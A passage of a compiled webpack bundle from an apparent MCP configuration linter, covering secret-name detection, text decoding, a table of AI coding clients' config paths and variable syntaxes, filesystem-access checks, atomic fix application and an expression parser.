    // `credentials_json`, `TOKEN_VALUE`, `apiKeyBase64` are the secret itself.
    while (words.length > 1 &&
        /^(?:json|value|values|base|b|string|str|plain|raw|literal|new|old|current|default|prod|dev|test|staging|live)$/.test(words.at(-1))) {
        if (words.at(-1) === 'string' && words.at(-2) === 'connection')
            return 'key';
        words.pop();
    }
    const last = words.at(-1);
    if (last === undefined)
        return undefined;
    const before = words.at(-2);
    if (harmlessEnds.has(last))
        return undefined;
    if (harmlessStarts.has(words[0]) && words.length > 1)
        return undefined;
    if (words.includes('public') || words.includes('publishable') || words.includes('anon'))
        return undefined;
    if (passwordWords.has(last))
        return 'password';
    if (keyWords.has(last))
        return 'key';
    if ((last === 'key' || last === 'keys') && before !== undefined && secretKeys.has(before))
        return 'key';
    if (last === 'str' && before === 'conn')
        return 'key';
    // A provider's own key by its provider's name: OPENAI_KEY, MCP_KEY, TAVILY_KEY.
    if (last === 'key' &&
        /^[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_KEY$/.test(plain) &&
        !/^(?:CACHE|PRIMARY|SORT|PARTITION|FOREIGN|HASH|RESTORE|MAP|OBJECT|ROW|INDEX|S3|FILE|REGISTRY|TRANSLATION)$/.test(before.toUpperCase())) {
        return 'key';
    }
    if (words.includes('password') || words.includes('secret')) {
        // `password_admin`, `secretForSigning`; never `secret_manager`, `password policy` (above).
        return words[0] === 'password' ? 'password' : undefined;
    }
    return undefined;
}
//# sourceMappingURL=secret-name.js.map

/***/ }),

/***/ 64060:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ decode),
/* harmony export */   l: () => (/* binding */ encode)
/* harmony export */ });
/** Decodes by the byte order mark; without one as UTF-8, or UTF-16 where every other byte is zero. */
function decode(bytes) {
    const [encoding, markLength] = sniff(bytes);
    const body = bytes.subarray(markLength);
    const text = new TextDecoder(encoding, { ignoreBOM: true }).decode(body);
    const lossy = text.includes('\ufffd') && !encode(text, encoding, false).equals(body);
    return { text, encoding, byteOrderMark: markLength > 0, lossy };
}
/** The bytes of a text; with the values of `decode` it is its inverse. */
function encode(text, encoding, byteOrderMark) {
    const marked = byteOrderMark ? `\ufeff${text}` : text;
    if (encoding === 'utf-8')
        return Buffer.from(marked, 'utf8');
    const bytes = Buffer.from(marked, 'utf16le');
    return encoding === 'utf-16be' ? bytes.swap16() : bytes;
}
function sniff(bytes) {
    if (bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf)
        return ['utf-8', 3];
    if (bytes[0] === 0xff && bytes[1] === 0xfe)
        return ['utf-16le', 2];
    if (bytes[0] === 0xfe && bytes[1] === 0xff)
        return ['utf-16be', 2];
    return [utf16WithoutMark(bytes.subarray(0, 1024)), 0];
}
/** ASCII text in UTF-16 has a zero in every second byte and in no other. */
function utf16WithoutMark(head) {
    if (!head.includes(0))
        return 'utf-8';
    const zeros = [0, 0];
    head.forEach((byte, i) => {
        if (byte === 0)
            zeros[(i % 2)]++;
    });
    const enough = head.length / 4;
    if (zeros[0] === 0 && zeros[1] > enough)
        return 'utf-16le';
    return zeros[1] === 0 && zeros[0] > enough ? 'utf-16be' : 'utf-8';
}
//# sourceMappingURL=decode.js.map

/***/ }),

/***/ 4578:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   OY: () => (/* binding */ isTemplatePath),
/* harmony export */   U4: () => (/* binding */ clientById),
/* harmony export */   b2: () => (/* binding */ clients),
/* harmony export */   fe: () => (/* binding */ clientOf),
/* harmony export */   uB: () => (/* binding */ unknownClient)
/* harmony export */ });
/**
 * MCP clients: where each keeps its configuration, under which key, and which references it expands.
 * From the vendors' documentation and sources; where a vendor is silent, `certain` is false.
 */
function dialect(example, syntaxes, certain = true) {
    return { syntaxes, certain, example };
}
const claudeCode = dialect('${NAME}', ['${X}', '${X:-d}']);
const code = dialect('${env:NAME}', ['${env:X}', '${input:x}']);
const envBraces = dialect('${env:NAME}', ['${env:X}']);
const unknown = dialect('an environment variable', [], false);
const codeUser = (path) => [
    `Library/Application Support/Code/User/${path}`,
    `.config/Code/User/${path}`,
    `%APPDATA%/Code/User/${path}`
];
/** More special paths come first: the first client whose paths match has the file. */
const clients = [
    {
        id: 'vscode',
        title: 'VS Code',
        paths: /(?:^|\/)(?:\.vscode|Code(?: - Insiders)?\/User(?:\/profiles\/[^/]+)?)\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['servers'],
        dialect: code,
        userPaths: codeUser('mcp.json')
    },
    {
        id: 'vscode-settings',
        title: 'VS Code',
        paths: /(?:^|\/)(?:\.vscode|Code(?: - Insiders)?\/User)\/settings\.json$|\.code-workspace$|(?:^|\/)\.?devcontainer(?:\/[^/]+)?(?:\/devcontainer)?\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcp.servers'],
        dialect: code,
        userPaths: codeUser('settings.json')
    },
    {
        id: 'visual-studio',
        title: 'Visual Studio',
        paths: /(?:^|\/)\.vs\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['servers'],
        dialect: dialect('${input:name}', ['${input:x}', '${env:X}'], false),
        userPaths: []
    },
    {
        id: 'cursor',
        title: 'Cursor',
        paths: /(?:^|\/)\.cursor\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: dialect('${env:NAME}', ['${env:X}'], false),
        userPaths: ['.cursor/mcp.json']
    },
    {
        id: 'windsurf',
        title: 'Windsurf',
        paths: /(?:^|\/)\.(?:windsurf|codeium)\/(?:[^/]+\/)?mcp(?:_config)?\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: dialect('${env:NAME}', ['${env:X}'], false),
        userPaths: ['.codeium/windsurf/mcp_config.json']
    },
    {
        id: 'claude-desktop',
        title: 'Claude Desktop',
        paths: /(?:^|\/)[^/]*claude_desktop_config[^/]*\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: dialect('a variable of the environment that the client is started in', []),
        userPaths: [
            'Library/Application Support/Claude/claude_desktop_config.json',
            '%APPDATA%/Claude/claude_desktop_config.json',
            '.config/Claude/claude_desktop_config.json',
            '.config/claude/claude_desktop_config.json'
        ]
    },
    {
        id: 'claude-code-settings',
        title: 'Claude Code',
        paths: /(?:^|\/)\.claude\/(?:settings(?:\.local)?|managed-settings)\.json$/i,
        format: 'json',
        certain: false,
        keys: [],
        dialect: claudeCode,
        userPaths: ['.claude/settings.json', '/etc/claude-code/managed-settings.json']
    },
    {
        id: 'claude-code-plugin',
        title: 'Claude Code plugin',
        paths: /(?:^|\/)\.claude-plugin\/(?:plugin|marketplace)\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcpServers'],
        dialect: claudeCode,
        userPaths: []
    },
    {
        id: 'claude-code-user',
        title: 'Claude Code',
        paths: /(?:^|\/)(?:\.claude\.json|managed-mcp\.json)$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: claudeCode,
        userPaths: [
            '.claude.json',
            '/etc/claude-code/managed-mcp.json',
            '/Library/Application Support/ClaudeCode/managed-mcp.json',
            '%PROGRAMFILES%/ClaudeCode/managed-mcp.json'
        ]
    },
    {
        id: 'copilot-cli',
        title: 'Copilot CLI',
        paths: /(?:^|\/)(?:\.github\/mcp\.json|\.copilot\/mcp-config\.json)$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: claudeCode,
        userPaths: ['.copilot/mcp-config.json', '.config/mcp-config.json']
    },
    {
        id: 'jetbrains-copilot',
        title: 'Copilot for JetBrains',
        paths: /(?:^|\/)github-copilot\/intellij\/mcp\.json$|(?:^|\/)\.(?:air|idea)\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['servers', 'mcpServers'],
        dialect: dialect('${env:NAME}', ['${env:X}'], false),
        userPaths: [
            '.config/github-copilot/intellij/mcp.json',
            '%LOCALAPPDATA%/github-copilot/intellij/mcp.json'
        ]
    },
    {
        id: 'cline',
        title: 'Cline',
        paths: /(?:^|\/)(?:cline_mcp_settings|\.cline\/mcp)\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: envBraces,
        userPaths: [
            '.cline/mcp.json',
            ...codeUser('globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json')
        ]
    },
    {
        id: 'roo',
        title: 'Roo Code',
        paths: /(?:^|\/)\.roo\/mcp\.json$|rooveterinaryinc\.roo-cline\/settings\/mcp_settings\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: envBraces,
        userPaths: codeUser('globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json')
    },
    {
        id: 'kilo',
        title: 'Kilo Code',
        paths: /(?:^|\/)\.kilocode\/mcp\.json$|(?:^|\/)mcp_settings\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: envBraces,
        userPaths: ['.kilocode/cli/global/settings/mcp_settings.json']
    },
    {
        id: 'kilo-cli',
        title: 'Kilo',
        paths: /(?:^|\/)(?:\.kilo\/)?kilo\.jsonc?$/i,
        format: 'json',
        certain: false,
        keys: ['mcp'],
        dialect: dialect('{env:NAME}', ['{env:X}']),
        userPaths: ['.config/kilo/kilo.jsonc']
    },
    {
        id: 'zed',
        title: 'Zed',
        paths: /(?:^|\/)\.?zed\/settings\.json$/i,
        format: 'json',
        certain: false,
        keys: ['context_servers'],
        dialect: dialect('an environment variable of the server', [], false),
        userPaths: ['.config/zed/settings.json', '%APPDATA%/Zed/settings.json']
    },
    {
        id: 'gemini-cli',
        title: 'Gemini CLI',
        paths: /(?:^|\/)\.?gemini(?:-cli)?\/settings\.json$|(?:^|\/)gemini-extension\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcpServers'],
        dialect: dialect('$NAME', ['$X', '${X}', '${X:-d}', '%X%']),
        userPaths: [
            '.gemini/settings.json',
            '/etc/gemini-cli/settings.json',
            '%PROGRAMDATA%/gemini-cli/settings.json'
        ]
    },
    {
        id: 'antigravity',
        title: 'Antigravity',
        paths: /(?:^|\/)\.(?:agents|gemini)\/(?:[^/]+\/)?mcp_config\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: unknown,
        userPaths: ['.gemini/antigravity/mcp_config.json', '.gemini/config/mcp_config.json']
    },
    {
        id: 'qwen-code',
        title: 'Qwen Code',
        paths: /(?:^|\/)\.qwen\/settings\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcpServers'],
        dialect: dialect('$NAME', ['$X', '${X}', '${X:-d}', '%X%']),
        userPaths: ['.qwen/settings.json']
    },
    {
        id: 'junie',
        title: 'Junie',
        paths: /(?:^|\/)\.junie\/(?:mcp\/)?mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: unknown,
        userPaths: ['.junie/mcp/mcp.json']
    },
    {
        id: 'amazon-q',
        title: 'Amazon Q Developer',
        paths: /(?:^|\/)\.?amazonq\/(?:mcp|default|(?:cli-)?agents\/[^/]+)\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: unknown,
        userPaths: [
            '.aws/amazonq/mcp.json',
            '.aws/amazonq/default.json',
            '.aws/amazonq/agents/default.json'
        ]
    },
    {
        id: 'kiro',
        title: 'Kiro',
        paths: /(?:^|\/)\.kiro\/(?:settings\/mcp|agents\/[^/]+|powers\/[^/]+\/mcp)\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers', 'powers.mcpServers'],
        dialect: dialect('${NAME}', ['${X}'], false),
        userPaths: ['.kiro/settings/mcp.json']
    },
    {
        id: 'opencode',
        title: 'opencode',
        paths: /(?:^|\/)(?:\.opencode\/|opencode\/)?opencode\.jsonc?$/i,
        format: 'json',
        certain: false,
        keys: ['mcp', 'mcp.servers'],
        dialect: dialect('{env:NAME}', ['{env:X}']),
        userPaths: [
            '.config/opencode/opencode.json',
            '.config/opencode/opencode.jsonc',
            '/etc/opencode/opencode.json',
            '%PROGRAMDATA%/opencode/opencode.json'
        ]
    },
    {
        id: 'crush',
        title: 'Crush',
        paths: /(?:^|\/)\.?crush\.json$|(?:^|\/)crush\/crush\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcp'],
        dialect: dialect('$NAME', ['$X', '${X}', '${X:-d}', '$(command)']),
        userPaths: ['.config/crush/crush.json']
    },
    {
        id: 'factory',
        title: 'Factory',
        paths: /(?:^|\/)\.factory\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: claudeCode,
        userPaths: ['.factory/mcp.json']
    },
    {
        id: 'trae',
        title: 'Trae',
        paths: /(?:^|\/)(?:\.trae|Trae\/User)\/mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers'],
        dialect: unknown,
        userPaths: ['Library/Application Support/Trae/User/mcp.json']
    },
    {
        id: 'augment',
        title: 'Augment',
        paths: /(?:^|\/)\.augment\/settings\.json$/i,
        format: 'json',
        certain: false,
        keys: ['mcpServers'],
        dialect: unknown,
        userPaths: ['.augment/settings.json']
    },
    {
        id: 'continue',
        title: 'Continue',
        paths: /(?:^|\/)\.continue\/(?:config\.ya?ml|(?:mcpServers|agents|assistants)\/[^/]+\.(?:ya?ml|json))$/i,
        format: 'yaml',
        certain: true,
        keys: ['mcpServers'],
        dialect: dialect('${{ secrets.NAME }}', ['${{ secrets.X }}', '{{x}}']),
        userPaths: ['.continue/config.yaml']
    },
    {
        id: 'goose',
        title: 'Goose',
        paths: /(?:^|\/)goose\/(?:config\/)?config\.ya?ml$/i,
        format: 'yaml',
        certain: false,
        keys: ['extensions'],
        dialect: dialect('a name in `env_keys`', [], false),
        userPaths: ['.config/goose/config.yaml', '%APPDATA%/Block/goose/config/config.yaml']
    },
    {
        id: 'librechat',
        title: 'LibreChat',
        paths: /(?:^|\/)[^/]*librechat[^/]*\.ya?ml$/i,
        format: 'yaml',
        certain: false,
        keys: ['mcpServers'],
        dialect: dialect('${NAME}', ['${X}', '{{x}}']),
        userPaths: []
    },
    {
        id: 'docker-mcp',
        title: 'Docker MCP gateway',
        paths: /(?:^|\/)\.docker\/mcp\/[^/]+\.ya?ml$/i,
        format: 'yaml',
        certain: false,
        keys: ['registry'],
        dialect: dialect('docker mcp secret', ['{{x}}'], false),
        userPaths: ['.docker/mcp/catalog.yaml', '.docker/mcp/config.yaml']
    },
    {
        id: 'hermes',
        title: 'Hermes',
        paths: /(?:^|\/)\.hermes\/config\.ya?ml$/i,
        format: 'yaml',
        certain: false,
        keys: ['mcp_servers'],
        dialect: unknown,
        userPaths: ['.hermes/config.yaml']
    },
    {
        id: 'codex',
        title: 'Codex',
        paths: /(?:^|\/)\.?codex\/[^/]+\.toml$/i,
        format: 'toml',
        certain: true,
        keys: ['mcp_servers'],
        dialect: dialect('a name in `env_vars`, `env_http_headers` or `bearer_token_env_var`', []),
        userPaths: [
            '.codex/config.toml',
            '/etc/codex/config.toml',
            '%PROGRAMDATA%/OpenAI/Codex/config.toml'
        ]
    },
    {
        id: 'gh-aw',
        title: 'GitHub agentic workflows',
        paths: /(?:^|\/)(?:\.github\/workflows|shared\/mcp)\/(?:[^/]+\/)*[^/]+\.md$/i,
        format: 'markdown',
        certain: false,
        keys: ['mcp-servers', 'tools.*.mcp'],
        dialect: dialect('${{ secrets.NAME }}', ['${{ secrets.X }}', '${X}']),
        userPaths: []
    },
    {
        id: 'copilot-agent',
        title: 'Copilot agent',
        paths: /(?:^|\/)\.github\/(?:agents|chatmodes)\/[^/]+\.md$/i,
        format: 'markdown',
        certain: false,
        keys: ['mcp-servers'],
        dialect: dialect('${COPILOT_MCP_NAME}', ['$X', '${X}', '${X:-d}', '${{ secrets.X }}']),
        userPaths: []
    },
    {
        id: 'claude-code-agent',
        title: 'Claude Code',
        paths: /(?:^|\/)\.claude\/(?:agents|skills|commands)\/(?:[^/]+\/)*[^/]+\.md$/i,
        format: 'markdown',
        certain: false,
        keys: ['mcpServers'],
        dialect: claudeCode,
        userPaths: []
    },
    {
        id: 'claude-code',
        title: 'Claude Code',
        paths: /(?:^|\/)\.mcp\.json$/i,
        format: 'json',
        certain: true,
        keys: ['mcpServers', 'servers'],
        dialect: claudeCode,
        userPaths: []
    }
];
/** What stands for a client where a file does not say whose it is. */
const unknownClient = {
    id: 'unknown',
    title: 'the client',
    paths: /(?:^|\/)(?:[^/]*[-_.])?mcp(?:[-_](?:config|servers|settings))?\.json$/i,
    format: 'json',
    certain: false,
    keys: ['mcpServers', 'servers'],
    dialect: unknown,
    userPaths: ['.lmstudio/mcp.json', '.pi/agent/mcp.json', '.tabnine/agent/settings.json']
};
/** The client whose configuration stands at a path; undefined when the path does not tell. */
function clientOf(path) {
    const plain = path
        .replaceAll('\\', '/')
        .replace(/\.(?:example|sample|template|tmpl|dist|bak|orig)$/i, '');
    return clients.find(client => client.paths.test(plain));
}
/** The client with an id. */
function clientById(id) {
    return clients.find(client => client.id === id) ?? unknownClient;
}
/** True for files that are meant to be copied and filled in, not read: examples and templates. */
function isTemplatePath(path) {
    return /\.(?:example|sample|template|tmpl|dist)(?:\.[^/]*)?$/i.test(path);
}
//# sourceMappingURL=clients.js.map

/***/ }),

/***/ 31968:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ filesystemAccess)
/* harmony export */ });
/* harmony import */ var _paths_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(47396);

const pathFlag = /^--?(?:allow(?:ed)?[-_]?(?:path|dir|director(?:y|ies)|root|folder)s?|root(?:[-_]?(?:path|dir(?:ectory)?|folder))?|roots|base[-_]?(?:path|dir(?:ectory)?)|(?:work(?:ing)?|project|vault|data)?[-_]?dir(?:ectory)?|director(?:y|ies)|folder|path|paths|workspace|project(?:[-_]root)?|repository|repo|mount)$/i;
const pathVariable = /(?:^|_)(?:ALLOWED_(?:DIRECTORIES|DIRS|PATHS|DIRECTORY|DIR|PATH|ROOTS|FOLDERS)|CODE_REPO_PATHS|(?:FS|FILESYSTEM|FILE|MCP|WORKSPACE)_(?:ROOT|ROOTS|PATH|DIR|DIRECTORY|BASE))$/i;
/** A home that somebody is to fill in: `/Users/YOUR_USERNAME`. */
const placeholderHome = /[\\/](?:<[^<>]*>|\{[^{}]*\}|\[[^[\]]*\]|your[-_ ]?\w*|(?:my|the)?[-_]?user[-_ ]?name|xxx+)[\\/]*$/i;
/**
 * Every path given to a server in its arguments, its container's mounts and its environment. Paths
 * inside a container are the container's own: there the mounts decide.
 */
function filesystemAccess(server, config) {
    const found = [];
    const add = (path, range, through) => {
        if ((0,_paths_js__WEBPACK_IMPORTED_MODULE_0__/* .isWithin */ .UO)(path, config.filesystemRoots))
            return;
        const breadth = placeholderHome.test(path) ? 'narrow' : (0,_paths_js__WEBPACK_IMPORTED_MODULE_0__/* .breadthOf */ .CO)(path);
        found.push({ path, breadth, range, through });
    };
    const { launch } = server;
    if (launch?.ecosystem === 'oci') {
        for (const mount of launch.mounts)
            add(mount.source.text, mount.source.range(), 'mount');
        return found;
    }
    launch?.args.forEach((arg, index) => {
        const equals = /^(--?[\w-]+)=/.exec(arg.text);
        if (equals) {
            if (!pathFlag.test(equals[1]))
                return;
            const value = arg.slice(equals[0].length);
            for (const part of (0,_paths_js__WEBPACK_IMPORTED_MODULE_0__/* .splitPathList */ .IB)(value.text)) {
                add(part.text, value.range(part.start, part.start + part.text.length), 'argument');
            }
            return;
        }
        if (arg.text.startsWith('-'))
            return;
        const before = launch.args[index - 1]?.text ?? '';
        // The value of a flag that takes no path: `--port 8080`, `--base-url /`.
        if (/^--?[a-z]/i.test(before) && !pathFlag.test(before))
            return;
        add(arg.text, arg.range(), 'argument');
    });
    for (const { name, value } of [...server.env, ...(launch?.env ?? [])]) {
        if (!pathVariable.test(name.text))
            continue;
        for (const part of (0,_paths_js__WEBPACK_IMPORTED_MODULE_0__/* .splitPathList */ .IB)(value.text)) {
            add(part.text, value.range(part.start, part.start + part.text.length), name.text);
        }
    }
    return found;
}
//# sourceMappingURL=filesystem-access.js.map

/***/ }),

/***/ 57167:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   n_: () => (/* binding */ lineBreakOf),
/* harmony export */   x3: () => (/* binding */ writeText),
/* harmony export */   yZ: () => (/* binding */ applyFixes)
/* harmony export */ });
/* unused harmony export applyEdits */
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(51455);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(76760);
/* harmony import */ var _decode_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(64060);




/**
 * Applies the fixes of findings to texts. A fix is taken whole or not at all; of two that overlap
 * the first one in the file is taken. Inserted line breaks follow the file's own.
 *
 * @param textOf the text of a file as it was linted; undefined when it may not be changed.
 */
function applyFixes(findings, textOf) {
    const accepted = new Map();
    const applied = [];
    const conflicting = [];
    for (const finding of findings) {
        if (!finding.fix || finding.fix.edits.length === 0)
            continue;
        const edits = withoutDuplicates(finding.fix.edits);
        if (!edits.every(edit => fits(edit, textOf(edit.file))))
            continue;
        const others = edits.flatMap(edit => accepted.get(edit.file) ?? []);
        const fresh = edits.filter(edit => !others.some(other => sameEdit(edit, other)));
        if (overlapAmong(edits) ||
            fresh.some(edit => others.some(other => other.file === edit.file && overlap(edit, other)))) {
            conflicting.push(finding);
            continue;
        }
        for (const edit of fresh) {
            const list = accepted.get(edit.file);
            if (list)
                list.push(edit);
            else
                accepted.set(edit.file, [edit]);
        }
        applied.push(finding);
    }
    const texts = new Map();
    for (const [file, edits] of accepted)
        texts.set(file, applyEdits(textOf(file), edits));
    return { texts, applied, conflicting };
}
/** Applies edits that do not overlap; their line breaks become those of the text. */
function applyEdits(text, edits) {
    const lineBreak = lineBreakOf(text);
    let result = '';
    let at = 0;
    for (const edit of [...edits].sort((a, b) => a.start - b.start || a.end - b.end)) {
        result += text.slice(at, edit.start) + edit.newText.replace(/\r\n|\r|\n/g, lineBreak);
        at = edit.end;
    }
    return result + text.slice(at);
}
/** The line break that most lines of a text have; `\n` for a text of one line. */
function lineBreakOf(text) {
    const all = text.split('\n').length - 1;
    const windows = text.split('\r\n').length - 1;
    return windows * 2 > all ? '\r\n' : '\n';
}
function fits(edit, text) {
    return text !== undefined && edit.start >= 0 && edit.start <= edit.end && edit.end <= text.length;
}
function sameEdit(a, b) {
    return a.file === b.file && a.start === b.start && a.end === b.end && a.newText === b.newText;
}
function withoutDuplicates(edits) {
    return edits.filter((edit, i) => edits.findIndex(other => sameEdit(edit, other)) === i);
}
/** Two insertions at one place also overlap: their order would be a guess. */
function overlap(a, b) {
    if (a.start === a.end && b.start === b.end)
        return a.start === b.start;
    return a.start < b.end && b.start < a.end;
}
function overlapAmong(edits) {
    return edits.some((a, i) => edits.some((b, j) => j > i && a.file === b.file && overlap(a, b)));
}
/**
 * Replaces a file's text in one step, with its encoding, byte order mark and mode kept: a reader
 * sees the old file or the new one.
 *
 * @param expected the text that was linted: a file that has changed since is left alone.
 * @returns why the file was left alone; undefined when it was written.
 */
async function writeText(root, file, expected, text) {
    const target = node_path__WEBPACK_IMPORTED_MODULE_2__.join(root, file);
    const stat = await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.lstat(target);
    if (!stat.isFile())
        return 'it is not a regular file';
    const decoded = (0,_decode_js__WEBPACK_IMPORTED_MODULE_3__/* .decode */ .D)(await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.readFile(target));
    if (decoded.lossy)
        return 'it holds bytes that are not valid in its encoding';
    if (decoded.text !== expected)
        return 'it has changed since it was linted';
    const temporary = node_path__WEBPACK_IMPORTED_MODULE_2__.join(node_path__WEBPACK_IMPORTED_MODULE_2__.dirname(target), `.${node_path__WEBPACK_IMPORTED_MODULE_2__.basename(target)}.${(0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.randomBytes)(6).toString('hex')}.tmp`);
    try {
        await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.writeFile(temporary, (0,_decode_js__WEBPACK_IMPORTED_MODULE_3__/* .encode */ .l)(text, decoded.encoding, decoded.byteOrderMark), {
            mode: stat.mode,
            flag: 'wx'
        });
        // The mode given above is narrowed by the umask.
        await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.chmod(temporary, stat.mode);
        await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.rename(temporary, target);
    }
    catch (error) {
        await node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.rm(temporary, { force: true });
        throw error;
    }
    return undefined;
}
//# sourceMappingURL=fix.js.map

/***/ }),

/***/ 88543:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $u: () => (/* binding */ findMacros),
/* harmony export */   b_: () => (/* binding */ findTemplateExpressions),
/* harmony export */   kY: () => (/* binding */ parseRuntimeExpression),
/* harmony export */   xE: () => (/* binding */ parseDirective)
/* harmony export */ });
/* unused harmony export parseAzureCondition */
/* harmony import */ var _expression_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(68193);
/* harmony import */ var _github_expression_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(52727);


const macroPattern = /\$\(([A-Za-z_][A-Za-z0-9_.-]*)\)/g;
/**
 * Finds `$(name)`. In a shell script `$(pwd)` has the same form: whether it is a macro depends on
 * whether such a variable exists, which the caller has to know.
 */
function findMacros(text) {
    const sites = [];
    for (const match of text.text.matchAll(macroPattern)) {
        const start = match.index;
        const end = start + match[0].length;
        sites.push({
            name: match[1],
            nameText: text.slice(start + 2, end - 1),
            range: text.range(start, end),
            start,
            end
        });
    }
    return sites;
}
/** Finds every `${{ … }}`; directives (`if`, `each`, `insert`) are read by `parseDirective`. */
function findTemplateExpressions(text) {
    return (0,_github_expression_js__WEBPACK_IMPORTED_MODULE_1__/* .findBracedExpressions */ .eV)(text, 'azure');
}
/** The expression of a value that is `$[ … ]`, else undefined. */
function parseRuntimeExpression(text) {
    const source = text.text;
    const start = source.length - source.trimStart().length;
    const end = source.trimEnd().length;
    if (!source.startsWith('$[', start) || source[end - 1] !== ']')
        return undefined;
    return (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .YK)(text.slice(start + 2, end - 1), 'azure');
}
/** A bare condition (`condition:`). */
function parseAzureCondition(text) {
    return parseExpression(text, 'azure');
}
const directivePattern = /^\s*\$\{\{\s*(if|elseif|else|each|insert)\b/;
/** The directive in a key, else undefined. */
function parseDirective(key) {
    const source = key.text;
    const match = directivePattern.exec(source);
    if (!match)
        return undefined;
    const close = source.trimEnd();
    if (!close.endsWith('}}'))
        return undefined;
    const kind = match[1];
    const body = key.slice(match[0].length, close.length - 2);
    const range = key.range();
    if (kind === 'else' || kind === 'insert')
        return { kind, range };
    if (kind === 'each') {
        const loop = /^\s*([A-Za-z_][\w]*)\s+in\b/.exec(body.text);
        if (!loop)
            return { kind, variable: '', collection: undefined, range };
        const collection = (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .YK)(body.slice(loop[0].length), 'azure').expression;
        return { kind, variable: loop[1], collection, range };
    }
    return { kind, condition: (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .YK)(body, 'azure').expression, range };
}
//# sourceMappingURL=azure-expression.js.map

/***/ }),

/***/ 68193:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   YK: () => (/* binding */ parseExpression),
/* harmony export */   ii: () => (/* binding */ referencesIn)
/* harmony export */ });
/* unused harmony exports referencePath, callsIn */
/** Deeper nesting is refused; the runner's own limit is 50. */
const maxDepth = 64;
const precedence = {
    '||': 1,
    '&&': 2,
    '==': 3,
    '!=': 3,
    '<': 4,
    '<=': 4,
    '>': 4,
    '>=': 4
};
class ExpressionError extends Error {
    at;
    constructor(message, at) {
        super(message);
        this.at = at;
    }
}
/** Parses a text that is one expression, without its delimiters. Never throws. */
function parseExpression(text, dialect) {
    try {
        return { expression: new ExpressionParser(text, dialect).parse() };
    }
    catch (error) {
        if (!(error instanceof ExpressionError))
            throw error;
        return { problem: { kind: 'error', message: error.message, range: text.range(error.at, error.at) } };
    }
}
const namePattern = /[A-Za-z_][A-Za-z0-9_-]*/y;
const numberPattern = /[-+]?(?:0x[0-9a-f]+|0o[0-7]+|(?:\d+\.?\d*|\.\d+)(?:e[-+]?\d+)?)/iy;
const versionPattern = /\d+(?:\.\d+){2,3}/y;
const whitespace = /\s/;
class ExpressionParser {
    text;
    source;
    dialect;
    position = 0;
    depth = 0;
    previous;
    token;
    constructor(text, dialect) {
        this.text = text;
        this.source = text.text;
        this.dialect = dialect;
        this.token = this.read();
    }
    parse() {
        const expression = this.binary(0);
        if (this.token.kind !== 'end') {
            throw new ExpressionError('the expression should end here', this.token.start);
        }
        return expression;
    }
    binary(minimum) {
        this.enter();
        let left = this.unary();
        for (;;) {
            const operator = this.operator();
            if (!operator || precedence[operator] <= minimum)
                break;
            this.advance();
            const right = this.binary(precedence[operator]);
            left = {
                kind: 'binary',
                operator,
                left,
                right,
                range: { start: left.range.start, end: right.range.end }
